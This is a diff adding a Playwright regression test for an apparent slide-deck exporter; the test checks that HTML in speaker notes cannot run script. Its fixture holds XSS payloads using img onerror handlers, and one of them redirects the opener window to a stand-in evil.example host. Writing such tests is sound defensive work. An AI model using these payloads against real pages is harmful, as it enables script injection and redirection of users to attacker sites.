@@ -61,3 +61,40 @@ test('its speaker view (S) shows the notes and follows the slides', async ({ pag
   await expect(frame.locator('.reveal .slides > section.present')).toContainText(TITLES[2]);
   await speaker.screenshot({ path: info.outputPath('speaker-view.png') });
 });
+
+/** Issue 17: HTML in data-notes ran in the speaker view, and the page's CSP allowed inline script. */
+const HOSTILE_NOTES = `---
+title: 备注属性注入
+---
+<!-- .slide: data-notes="<img src=x onerror=window.__pwned='slide';opener.location='http://evil.example/?d='>" -->
+# 第一页
+
+<p class="fragment" data-notes="<img src=x onerror=alert('fragment')>">片段</p>
+
+<img src="x" onerror="window.__pwned='img'">
+Note:
+<img src=x onerror="alert('notes')">讲稿第一页
+`;
+
+test('a deck cannot run script in the exported page or its speaker view (data-notes, handlers)', async ({ page, context }) => {
+  const file = join(dir, '恶意备注.html');
+  writeFileSync(file, buildHtmlDeck(parseDeck(HOSTILE_NOTES).deck, await loadPresentAssets()));
+  const url = pathToFileURL(file).href;
+  const dialogs: string[] = [];
+  context.on('page', (p) => p.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss())));
+  page.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
+  await page.goto(url);
+  await expect(page.locator('.reveal .slides > section.present')).toContainText('第一页');
+  const [speaker] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('s')]);
+  // The speaker view still works under the hashed CSP, and shows the cleaned notes.
+  await expect(speaker.locator('.speaker-controls-notes')).toContainText('讲稿第一页', { timeout: 15_000 });
+  await page.bringToFront();
+  await page.keyboard.press('ArrowRight'); // shows the fragment, whose data-notes the plugin would insert
+  await expect(page.locator('.reveal .fragment.visible')).toHaveCount(1);
+  await page.waitForTimeout(300);
+  expect(dialogs).toEqual([]);
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
+  expect(await speaker.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
+  expect(page.url().startsWith(url)).toBe(true); // not navigated away by opener.location
+  expect(await page.locator('[data-notes], [onerror]').count()).toBe(0);
+});
